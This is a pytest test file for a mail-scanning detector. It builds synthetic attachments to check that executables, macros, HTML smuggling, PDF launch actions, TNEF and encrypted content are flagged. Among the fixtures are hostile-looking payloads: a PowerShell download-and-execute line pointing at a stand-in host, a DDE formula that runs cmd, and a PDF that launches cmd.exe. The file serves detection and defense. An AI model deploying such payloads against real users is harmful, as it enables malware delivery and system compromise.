"""The catalogue's cases of documents and active content, as whole mail: D24, D25, E11, E14 to E17."""

import base64
import io
import struct
import uuid
import zipfile

import pytest

from rules.detectors import encrypted_content
from rules.detectors.executable_attachment import Parameters, detect
from rules.facts import Reason

PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0L\x01" + b"\0" * 200
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(range(256)) * 4 + b"\xff\xd9"
GIF = b"GIF89a\x01\0\x01\0\0\0\0;"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SHORTCUT = struct.pack("<I", 76) + b"\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(56) + bytes(4)
SCRIPT = b'@echo off\r\nstart "" calc.exe\r\n' + b"rem\r\n" * 200
TYPES = '<Types xmlns="x"><Default Extension="xml" ContentType="application/xml"/></Types>'
WORD = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}


def zipped(files):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return target.getvalue()


def mail(name, content, declared="application/octet-stream"):
    head = (
        "From: ann@city.example\r\nMIME-Version: 1.0\r\n"
        f'Content-Type: {declared}; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    )
    return head.encode() + base64.encodebytes(content).replace(b"\n", b"\r\n")


@pytest.fixture
def told(facts_of):
    """What executable_attachment says of an attachment: each finding with its evidence."""

    def judge(name, content, declared="application/octet-stream"):
        facts = facts_of(mail(name, content, declared))
        return {found.summary: found.evidence[0].text for found in detect(facts, Parameters())}

    return judge


NAMES = """lnk iso img vhd vhdx one hta js jse vbs wsf scr pif cpl jar msi msix chm reg url library-ms ps1 xll rdp
    settingcontent-ms website search-ms appref-ms msc iqy slk xlam docm swf"""


@pytest.mark.parametrize("extension", NAMES.split())
def test_e14_by_name_with_a_wrong_type(told, extension):
    assert told(f"holiday.{extension}", b"Hello", "image/png") == {f"holiday.{extension}": f".{extension}"}


def note():
    return uuid.UUID("7b5c52e4-d88c-4da7-aeb1-5378d02996d3").bytes_le + bytes(200)


def disc():
    return bytes(32_769) + b"CD001\x01" + bytes(40_000)


@pytest.mark.parametrize(
    "content",
    [
        SHORTCUT,
        disc(),
        b"conectix" + bytes(504),
        b"vhdxfile" + bytes(70_000),
        b"\xeb\x3c\x90MSDOS5.0\0\2" + bytes(497) + b"\x55\xaa" + bytes(20_000),
        b"\0x" + b"MICROSOFT".ljust(30) + bytes(0x171 - 32) + b"MICROSOFT PIFEX\0" + bytes(200),
        note(),
        b"<html><head><HTA:APPLICATION id='a'/></head></html>",
        b"#@~^XAAAAA==-mD,/,'~",
        b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
        b'<job id="a"><script language="VBScript">x</script></job>',
        PROGRAM,
        zipped({"META-INF/MANIFEST.MF": "", "a/B.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}),
        zipped({"AppxManifest.xml": "<x/>", "a.txt": "x"}),
        b"ITSF\x03\0\0\0" + bytes(200),
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n",
        b"[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n",
        b"\xef\xbb\xbf[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n",
        b'<?xml version="1.0"?><libraryDescription xmlns="x"/>',
        b"IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
        b"screen mode id:i:2\r\nfull address:s:host.example\r\n",
        b'<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>',
        b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
        b"CWS\x0a" + bytes(100),
    ],
)
def test_e14_by_content_with_a_harmless_name(told, content):
    assert told("notes.txt", content, "text/plain")


def test_e14_an_installer_by_content(told, compound_file):
    assert told("notes.txt", compound_file({"a": b"x"}, "000C1084-0000-0000-C000-000000000046"), "text/plain")


JAR = zipped({"META-INF/MANIFEST.MF": "", "a/B.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (PDF + zipped({"payload.exe": PROGRAM}), "payload.exe inside scan.jpg"),
        (JPEG + zipped({"payload.exe": PROGRAM}), "payload.exe inside scan.jpg"),
        (GIF + JAR, "scan.jpg"),
        (PROGRAM + zipped({"a.txt": "x"}), "scan.jpg"),
        (SHORTCUT + SCRIPT, "content behind the shortcut inside scan.jpg"),
    ],
)
def test_e11_a_file_of_two_kinds_with_a_wrong_name_and_type(told, content, words):
    assert words in told("scan.jpg", content, "image/jpeg")


def relation(kind, target):
    return (
        f'<Relationships><Relationship Id="r1" Type="http://schemas.example/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize(
    ("name", "files", "evidence"),
    [
        ("a.docx", WORD | {"word/vbaProject.bin": b"x"}, "macros in word/vbaProject.bin"),
        ("a.xlsx", {"[Content_Types].xml": TYPES, "xl/vbaProject.bin": b"x"}, "macros in xl/vbaProject.bin"),
        ("a.pptx", {"[Content_Types].xml": TYPES, "ppt/vbaProject.bin": b"x"}, "macros in ppt/vbaProject.bin"),
        (
            "a.xlsx",
            {"[Content_Types].xml": TYPES, "xl/macrosheets/sheet1.xml": "<x/>"},
            "Excel 4 macro sheet in xl/macrosheets/sheet1.xml",
        ),
        (
            "a.docx",
            WORD | {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://a.example/x.dotm")},
            "attachedTemplate fetched from outside when it is opened",
        ),
        (
            "a.docx",
            WORD | {"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\a.example\x.dotm")},
            "attachedTemplate fetched from outside when it is opened",
        ),
        ("a.odt", {"mimetype": "x", "META-INF/manifest.xml": "<x/>", "Basic/S/M.xml": "x"}, "macros in Basic/S/M.xml"),
    ],
)
@pytest.mark.parametrize("called", [None, "notes.txt"])
def test_e15_macros_in_a_package(told, name, files, evidence, called):
    assert evidence in told(called or name, zipped(files), "text/plain").get(called or name, "")


def test_e15_a_macro_document_by_name_alone(told):
    assert told("a.docm", zipped(WORD)) == {"a.docm": ".docm"}


def test_e15_macros_in_an_old_document(told, compound_file):
    octets = compound_file({"WordDocument": bytes(600), "Macros/VBA/dir": b"x"})
    assert told("a.doc", octets, "application/msword") == {"a.doc": "macros in Macros/VBA"}


def test_e15_a_macro_sheet_in_an_old_workbook(told, compound_file):
    sheet = struct.pack("<HHIBB", 0x85, 8, 0, 0, 1) + b"\2\0ab"
    octets = compound_file({"Workbook": sheet + struct.pack("<HH", 0x0A, 0)})
    assert told("notes.txt", octets, "text/plain") == {"notes.txt": "Excel 4 macro sheet"}


def test_e15_a_package_in_rtf(told):
    texts = b"".join(struct.pack("<I", len(text)) + text for text in (b"Package\0", b"", b""))
    label = b"\x02\0a.txt\0C:\\payload.exe\0\0\0\x03\0" + struct.pack("<I", 2) + b"x\0"
    body = label + struct.pack("<I", len(PROGRAM)) + PROGRAM
    digits = (struct.pack("<II", 0x501, 2) + texts + struct.pack("<I", len(body)) + body).hex().encode()
    found = told("a.doc", b"{\\rtf1{\\object\\objemb{\\*\\objdata " + digits + b"}}}", "application/msword")
    assert found["a.doc"] == "Package object"
    assert "MZ executable" in found["a.txt inside a.doc"]


def archive(content):
    return (
        b"From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/html\r\n\r\n<p>Hello\r\n"
        b"--b\r\nContent-Location: file:///C:/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(content)
        + b"\r\n--b--\r\n"
    )


@pytest.mark.parametrize("name", ["letter.doc", "page.mht", "page.mhtml", "notes.txt"])
def test_e15_macros_in_a_web_archive(told, name):
    found = told(name, archive(b"ActiveMime" + bytes(50)), "application/msword")
    assert found[f"editdata.mso inside {name}"] == "Office macros in ActiveMime"


def test_e15_macros_in_a_web_archive_behind_a_pdf(told):
    found = told("scan.pdf", PDF + archive(b"ActiveMime" + bytes(50)))
    assert "editdata.mso inside web archive.mht inside scan.pdf" in found


def test_e15_a_formula_in_references_of_a_page_that_excel_opens(told):
    page = b"<table><tr><td>&#61;cmd&#x7c;'/c calc'&excl;A1</td></tr></table>"
    assert told("list.xls", page, "application/vnd.ms-excel") == {"list.xls": "formula that starts cmd"}


def test_e15_a_formula_in_a_table_of_text(told):
    assert told("list.csv", b"name,sum\r\nann,=cmd|'/c calc'!A1\r\n", "text/csv") == {
        "list.csv": "formula that starts cmd"
    }


@pytest.mark.parametrize(
    ("name", "declared", "page"),
    [
        (
            "a.html",
            "text/html",
            b"<script>var b = new Blob([atob(x)]); a.download = 'x'; URL.createObjectURL(b)</script>",
        ),
        ("a.htm", "text/plain", b"<script>navigator.msSaveBlob(new Blob([new Uint8Array(x)]), 'a.zip')</script>"),
        ("a.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
        ("a.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>'),
        ("a.svg", "text/plain", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></html>'),
    ],
)
def test_e16_pages_and_pictures_that_do_something(told, name, declared, page):
    assert name in told(name, page, declared)


def test_e16_what_a_page_carries_is_looked_into(told):
    link = base64.b64encode(zipped({"payload.exe": PROGRAM}))
    page = b'<a download="invoice.zip" href="data:application/zip;base64,' + link + b'">open</a>'
    assert "payload.exe inside invoice.zip inside a.html" in told("a.html", page, "text/html")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.html", b"<html><script>document.title = 'News'</script><p>Hello"),
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9"/></svg>'),
        ("a.pdf", PDF),
        ("a.docx", zipped(WORD)),
        ("a.csv", b"name|street\r\nann|Oak!\r\n"),
        ("a.mht", archive(b"only a picture")),
    ],
)
def test_ordinary_documents_pass(told, name, content):
    assert told(name, content) == {}


def pdf(*objects, catalog=b""):
    parts = (b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>", b"<< /Type /Pages /Kids [] /Count 0 >>", *objects)
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, part) for number, part in enumerate(parts, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R /Size 9 >>\n%%EOF\n"


def test_e17_a_file_in_a_pdf(told):
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(PROGRAM), PROGRAM)
    octets = pdf(stream, b"<< /Type /Filespec /F (payload.exe) /EF << /F 3 0 R >> >>")
    assert "embedded file inside a.pdf" in told("a.pdf", octets)
    assert told("a.pdf", octets)["payload.exe inside a.pdf"] == ".exe"


def test_e17_a_pdf_that_starts_a_program(told):
    octets = pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")
    assert told("a.txt", octets, "text/plain") == {"a.txt": "PDF that starts a program"}


def test_e17_a_volume_of_an_archive_alone(facts_of):
    volume = zipped({"a.txt": "x" * 500})
    volume = volume[:-22] + volume[-22:-18] + struct.pack("<HH", 1, 1) + volume[-14:]
    (unread,) = facts_of(mail("a.zip", volume)).unread
    assert (unread.reason, unread.detail) == (Reason.UNREADABLE, "one volume of a zip archive of several")


def tnef(name, content, short=b"A.TXT"):
    def attribute(identifier, body):
        return struct.pack("<BHHI", 2, identifier, 6, len(body)) + body + struct.pack("<H", sum(body) & 0xFFFF)

    wide = (name + "\0").encode("utf-16-le")
    long_name = struct.pack("<IHHII", 1, 0x1F, 0x3707, 1, len(wide)) + wide + bytes(-len(wide) % 4)
    parts = ((0x9002, bytes(14)), (0x8010, short + b"\0"), (0x800F, content), (0x9005, long_name))
    return b"\x78\x9f\x3e\x22\x01\x00" + b"".join(attribute(*part) for part in parts)


def test_e17_a_zip_in_a_message_in_tnef(told):
    inner = mail("invoice.zip", zipped({"payload.exe": PROGRAM}))
    found = told("winmail.dat", tnef("forwarded.eml", inner))
    assert any(key.startswith("payload.exe inside invoice.zip") and "winmail.dat" in key for key in found)


@pytest.mark.parametrize(("long", "short"), [("payload.exe", b"A.TXT"), ("notes.txt", b"PAYLOAD.EXE")])
def test_d24_names_that_differ(told, long, short):
    (evidence,) = told("winmail.dat", tnef(long, b"Hello", short), "image/png").values()
    assert evidence == ".exe"


def test_d24_tnef_in_tnef(told):
    found = told("winmail.dat", tnef("winmail.dat", tnef("payload.exe", PROGRAM)))
    assert found == {"A.TXT inside A.TXT inside winmail.dat": ".exe, MZ executable"}


def test_d24_tnef_inside_itself_ends(facts_of):
    content = PROGRAM
    for _ in range(8):
        content = tnef("winmail.dat", content)
    (unread,) = facts_of(mail("winmail.dat", content)).unread
    assert (unread.reason, unread.detail) == (Reason.LIMIT, "containers nested more than 6 deep")


def test_d24_a_wrong_checksum_hides_nothing(told):
    octets = bytearray(tnef("notes.txt", PROGRAM))
    octets[octets.index(PROGRAM) + len(PROGRAM)] ^= 0xFF
    assert "MZ executable" in told("winmail.dat", bytes(octets))["A.TXT inside winmail.dat"]


def test_d24_what_is_cut_off_is_held(facts_of, told):
    octets = tnef("notes.txt", b"Hello" * 100)[:-30]
    assert [unread.detail for unread in facts_of(mail("winmail.dat", octets)).unread] == [
        "TNEF that is cut off or malformed"
    ]
    assert told("winmail.dat", tnef("payload.exe", PROGRAM)[:-30])


@pytest.mark.parametrize(
    ("name", "declared"), [("winmail.dat", "application/octet-stream"), ("a.dat", "application/ms-tnef")]
)
def test_d24_what_is_no_tnef_is_held(facts_of, name, declared):
    (unread,) = facts_of(mail(name, bytes(range(256)), declared)).unread
    assert unread.reason is Reason.UNREADABLE


PKCS7 = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07"


def value(tag, content):
    size = len(content).to_bytes(4, "big")
    return bytes([tag, 0x84]) + size + content


def test_d25_what_is_signed_is_opened(told):
    entity = mail("payload.exe", PROGRAM)
    inner = value(0x30, PKCS7 + b"\x01" + value(0xA0, value(0x04, entity)))
    signed = value(0x30, PKCS7 + b"\x02" + value(0xA0, value(0x30, b"\x02\x01\x01" + value(0x31, b"") + inner)))
    assert any("payload.exe" in key for key in told("smime.p7m", signed, "application/pkcs7-mime"))


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("smime.p7m", value(0x30, PKCS7 + b"\x03" + value(0xA0, bytes(200))), "encrypted S/MIME message"),
        ("a.asc", b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----\r\n", "OpenPGP message"),
        (
            "smime.p7m",
            base64.encodebytes(value(0x30, PKCS7 + b"\x03" + value(0xA0, bytes(200)))),
            "encrypted S/MIME message",
        ),
        ("a.pfile", b".pfile\2\0" + bytes(90), "rights-managed Microsoft file"),
        ("a.psafe3", b"PWS3" + bytes(range(200)), "Password Safe database"),
        ("a.pages", zipped({".iwpv2": b"x", "Index/Document.iwa": b"x"}), "iWork document with a password"),
        ("a.tdf", zipped({"0.manifest.json": b"{}", "0.payload": b"x"}), "file encrypted in the Trusted Data Format"),
        ("message.rpmsg", bytes.fromhex("76e80460c411e386") + bytes(90), "rights-managed Microsoft message"),
    ],
)
@pytest.mark.parametrize("renamed", [False, True])
def test_d25_what_is_locked_is_told_whatever_its_name(facts_of, name, content, reason, renamed):
    facts = facts_of(mail("notes.txt" if renamed else name, content, "text/plain" if renamed else "application/x"))
    assert reason in {part.encrypted for part in facts.parts}
    assert Reason.ENCRYPTED in {unread.reason for unread in facts.unread}
    assert any(reason in found.summary for found in encrypted_content.detect(facts, encrypted_content.Parameters()))


@pytest.mark.parametrize("name", ["smime.p7m", "a.hc", "a.tc", "report.pdf.enc"])
def test_d25_what_is_only_called_locked_and_is_nothing_else_is_told(facts_of, name):
    facts = facts_of(mail(name, b"\x12\x33\x44" + bytes(range(200))))
    assert any(encrypted_content.detect(facts, encrypted_content.Parameters()))


def test_d25_what_is_signed_is_no_locked_file_whatever_its_name(facts_of):
    inner = value(0x30, PKCS7 + b"\x01" + value(0xA0, value(0x04, mail("a.txt", b"words"))))
    signed = value(0x30, PKCS7 + b"\x02" + value(0xA0, value(0x30, b"\x02\x01\x01" + value(0x31, b"") + inner)))
    for content in (signed, base64.encodebytes(signed)):
        facts = facts_of(mail("smime.p7m", content))
        assert facts.unread == ()
        assert any("words" in text.text for text in facts.texts)


def test_d25_a_pgp_message_of_mime(facts_of):
    octets = (
        b"From: a@city.example\r\n"
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n'
        b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        b"--b\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n--b--\r\n"
    )
    assert any(encrypted_content.detect(facts_of(octets), encrypted_content.Parameters()))
